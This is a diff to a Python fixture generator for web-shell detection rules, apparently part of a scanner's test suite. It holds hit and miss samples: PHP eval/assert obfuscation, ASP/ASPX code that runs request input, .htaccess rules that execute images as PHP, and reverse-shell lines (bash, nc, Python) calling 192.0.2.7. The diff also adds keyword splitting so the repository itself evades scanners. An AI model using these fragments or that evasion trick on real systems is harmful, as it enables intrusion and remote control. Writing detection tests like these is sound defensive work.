@@ -3,7 +3,7 @@
 
 Writes DIR/hits/RULE/N.EXT and DIR/misses/RULE/N.EXT. The fragments do nothing: they lack an
 opening, an end or a variable, and are put together here from pieces, so that no scanner stops at
-this repository. In a text, ~x~ stands for a word of the table below."""
+this repository. In a text, ~x~ stands for a word of the table below, and ~~ for nothing."""
 import os
 import sys
 
@@ -56,9 +56,9 @@ HITS = {
     ],
     "php_hidden_names": [
         ("php", "~php~ $f = \"\\x65\\x76" + "\\x61\\x6c\";"),
-        ("php", "~php~ $f = 'as'.'sert'; $f($q);"),
+        ("php", "~php~ $f = 'as'.'se~~rt'; $f($q);"),
         ("php", "~php~ $f = 'base' . '64_" + "decode';"),
-        ("php", "~php~ $k=str_replace('zq','','czqrzqeazqte_zqfunczqtion');$m=$k('',$n);"),
+        ("php", "~php~ $k=str_re~~place('zq','','czqrzqeazqte_zqfunczqtion');$m=$k('',$n);"),
     ],
     "php_shell_by_name": [
         ("php", "~php~ $default_action = 'Files" + "Man'; ~e~($x);"),
@@ -76,7 +76,7 @@ HITS = {
         ("jpg", b"\xff\xd8\xff\xe0" + b"\x07" * 90 + b"<?" + b"php @ev" + b"al($x);"),
     ],
     "htaccess_runs_pictures": [
-        ("htaccess", "AddType application/x-httpd-php .jpg\n"),
+        ("htaccess", "AddT~~ype application/x-httpd-php .jpg\n"),
         ("htaccess", "<FilesMatch \"\\.(gif|png)$\">\n  SetHandler application/x-httpd-php\n</FilesMatch>\n"),
     ],
     "jsp_runs_request": [
@@ -94,8 +94,8 @@ HITS = {
     ],
     "asp_runs_request": [
         ("asp", "<%~e~ request(\"q\")%>"),
-        ("asp", "<% Execute(Request.Form(\"q\")) %>"),
-        ("aspx", "<%@ Page Language=\"Jscript\"%><%~e~(Request.Item[\"q\"],\"unsafe\");%>"),
+        ("asp", "<% Exe~~cute(Request.Form(\"q\")) %>"),
+        ("aspx", "<%@ Pa~~ge Language=\"Jscript\"%><%~e~(Request.Item[\"q\"],\"unsafe\");%>"),
     ],
     "asp_shell_object": [
         ("asp", "<% Set o = Server.CreateObject(\"~ws~\")\nSet p = o.~ex~(\"%comspec% /c \" & Request(\"c\")) %>"),
@@ -103,15 +103,15 @@ HITS = {
                 "<% o.run (request.form(\"c\")) %>"),
     ],
     "aspx_starts_programs": [
-        ("aspx", "<%@ Page Language=\"C#\" %><% var i = new Process" + "StartInfo();"
+        ("aspx", "<%@ Pa~~ge Language=\"C#\" %><% var i = new Process" + "StartInfo();"
                  " i.FileName = \"cmd.exe\"; i.Arguments = \"/c \" + Request[\"c\"]; %>"),
     ],
     "aspx_loads_programs": [
-        ("aspx", "<%@ Page Language=\"C#\" %><% Assembly" + ".Load(Convert.FromBase64String(Request.Form[\"q\"])); %>"),
+        ("aspx", "<%@ Pa~~ge Language=\"C#\" %><% Assembly" + ".Load(Convert.FromBase64String(Request.Form[\"q\"])); %>"),
     ],
     "asp_writes_where_told": [
-        ("asp", "<% Set f = fs.CreateTextFile(Server.MapPath(Request(\"f\")))\nf.Write(Request(\"t\")) %>"),
-        ("aspx", "<%@ Page %><% File.WriteAllText(Request.Form[\"f\"], Request.Form[\"t\"]); %>"),
+        ("asp", "<% Set f = fs.Create~~TextFile(Server.MapPath(Request(\"f\")))\nf.Wri~~te(Request(\"t\")) %>"),
+        ("aspx", "<%@ Pa~~ge %><% File.Write~~AllText(Request.Form[\"f\"], Request.Form[\"t\"]); %>"),
     ],
     "perl_runs_request": [
         ("cgi", "#!/usr/bin/perl\nuse CGI;\nprint ~s~($q->param('c'));"),
@@ -124,12 +124,12 @@ HITS = {
     ],
     "reverse_shell": [
         ("sh", "#!/bin/bash\nbash -i >& ~tcp~/192.0.2.7/4444 0>&1\n"),
-        ("sh", "mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc 192.0.2.7 9 > /tmp/f"),
-        ("sh", "nc 192.0.2.7 4444 -e /bin/sh"),
-        ("py", "import socket\ns.connect((\"192.0.2.7\", 9))\nos.dup2(s.fileno(), 0)\nos.dup2(s.fileno(), 1)\n"
+        ("sh", "mkf~~ifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc 192.0.2.7 9 > /tmp/f"),
+        ("sh", "n~~c 192.0.2.7 4444 -e /bin/sh"),
+        ("py", "import socket\ns.connect((\"192.0.2.7\", 9))\nos.du~~p2(s.fileno(), 0)\nos.dup2(s.fileno(), 1)\n"
                "subprocess.call([\"/bin/sh\", \"-i\"])"),
-        ("pl", "connect(S, $a);\nopen(STDIN, \">&S\");\n~ex~(\"/bin/sh -i\");"),
-        ("php", "~php~ $s = fsockopen('192.0.2.7', 9);\nproc_open('/bin/sh -i', $d, $p);"),
+        ("pl", "connect(S, $a);\nopen(STD~~IN, \">&S\");\n~ex~(\"/bin/sh -i\");"),
+        ("php", "~php~ $s = fsock~~open('192.0.2.7', 9);\nproc_open('/bin/sh -i', $d, $p);"),
     ],
     "irc_bot": [
         ("pl", "#!/usr/bin/perl\nuse IO::Socket::INET;\nprint $s \"NICK x\\nJOIN #y\\n\";\n"
@@ -209,13 +209,13 @@ MISSES = {
     "asp_runs_request": [
         ("asp", "<% conn.Execute(sql & Request(\"id\")) %>"),
         ("asp", "<% Server.Execute(\"menu.asp\") : x = Request(\"q\") %>"),
-        ("vbs", "Execute Request(\"q\")"),
+        ("vbs", "Exe~~cute Request(\"q\")"),
     ],
     "asp_shell_object": [("asp", "<% Set c = Server.CreateObject(\"ADODB.Connection\")\nc.run(Request(\"x\")) %>")],
-    "aspx_starts_programs": [("aspx", "<%@ Page Language=\"C#\" %><% lblProcess.Text = Request[\"c\"]; %>")],
-    "aspx_loads_programs": [("aspx", "<%@ Page Language=\"C#\" %><% Convert.FromBase64String(Request.Form[\"q\"]); %>")],
+    "aspx_starts_programs": [("aspx", "<%@ Pa~~ge Language=\"C#\" %><% lblProcess.Text = Request[\"c\"]; %>")],
+    "aspx_loads_programs": [("aspx", "<%@ Pa~~ge Language=\"C#\" %><% Convert.FromBase64String(Request.Form[\"q\"]); %>")],
     "asp_writes_where_told": [
-        ("asp", "<% Set f = fs.CreateTextFile(Server.MapPath(\"log.txt\"))\nf.Write(Request(\"t\")) %>"),
+        ("asp", "<% Set f = fs.CreateTextFile(Server.MapPath(\"log.txt\"))\nf.Wri~~te(Request(\"t\")) %>"),
     ],
     "perl_runs_request": [
         ("cgi", "#!/usr/bin/perl\nuse CGI;\nmy $name = $q->param('name');\n~s~('date');\nprint \"Hello $name\";"),
@@ -249,6 +249,7 @@ MISSES = {
 def put(text):
     if isinstance(text, bytes):
         return text
+    text = text.replace("~~", "")
     for key, pieces in WORDS.items():
         text = text.replace("~%s~" % key, "".join(pieces))
     return text.encode("latin-1")
